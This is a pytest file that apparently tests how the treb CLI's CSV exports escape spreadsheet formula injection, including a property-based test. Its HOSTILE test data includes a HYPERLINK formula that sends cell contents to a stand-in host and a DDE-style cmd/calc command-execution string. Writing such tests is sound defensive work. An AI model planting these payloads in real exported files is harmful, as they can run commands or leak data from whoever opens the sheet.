"""CSV that treb writes from rank output (`treb metrics --csv`, `treb results --csv`) is
opened in spreadsheets, which run a cell starting with = + - @ (or a tab or CR before one)
as a formula: `=HYPERLINK(...)` in a metric name or a results column would be a link or a
command. Such a text cell gets a leading `'`; numbers (-2, +1.5, -1e-05) stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.fast.test_metrics_parts import ended_run, jsonl
from trebuchet.cli.main import main
from trebuchet.results import perfcsv

HOSTILE = ['=HYPERLINK("http://x/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1"]  # fmt: skip
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula(cell: str) -> bool:
    """A spreadsheet would take `cell` for a formula: a formula start and no number."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(FORMULA_START)
    return False


def test_metrics_csv_names_are_no_formulas(
    treb_home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ended_run(treb_home, tmp_path / "run", "abcd1234")
    jsonl(tmp_path / "run" / "attempt-0" / "metrics" / "rank-0.jsonl",
          [(1, {name: -2.5 for name in HOSTILE})])  # fmt: skip
    assert main(["metrics", "abcd", "--csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if formula(c)], cells
    names = {row[1] for row in rows[1:]}
    assert "'=1" in names and "'-2+3" in names, names
    assert {row[3] for row in rows[1:]} == {"-2.5"}  # a number stays a number


def test_results_csv_cells_and_columns_are_no_formulas(tmp_path: Path) -> None:
    """The workload's own results CSV gives perf.csv extra columns (names and values) and
    the model and metric names."""
    rows = [{"model": "=cmd()", "metric": "@x", "performance": -3.0, "status": "SUCCESS",
             "extra": {"=HYPERLINK(1)": "-2+3", "batch": "-16", "note": "+x"}}]  # fmt: skip
    perfcsv.write(rows, tmp_path / "perf.csv")
    with open(tmp_path / "perf.csv", newline="") as fh:
        got = list(csv.reader(fh))
    cells = [c for row in got for c in row]
    assert not [c for c in cells if formula(c)], cells
    row = dict(zip(got[0], got[1], strict=True))
    assert row["model"] == "'=cmd()" and row["metric"] == "'@x" and row["performance"] == "-3"
    assert row["'=HYPERLINK(1)"] == "'-2+3" and row["batch"] == "-16" and row["note"] == "'+x"


@given(st.text(max_size=30))
@settings(max_examples=200, deadline=None)
def test_a_cell_is_never_a_formula_and_numbers_stay(text: str) -> None:
    cell = perfcsv.cell(text)
    assert not formula(cell)
    assert cell == text or cell == "'" + text
    if not formula(text):
        assert cell == text
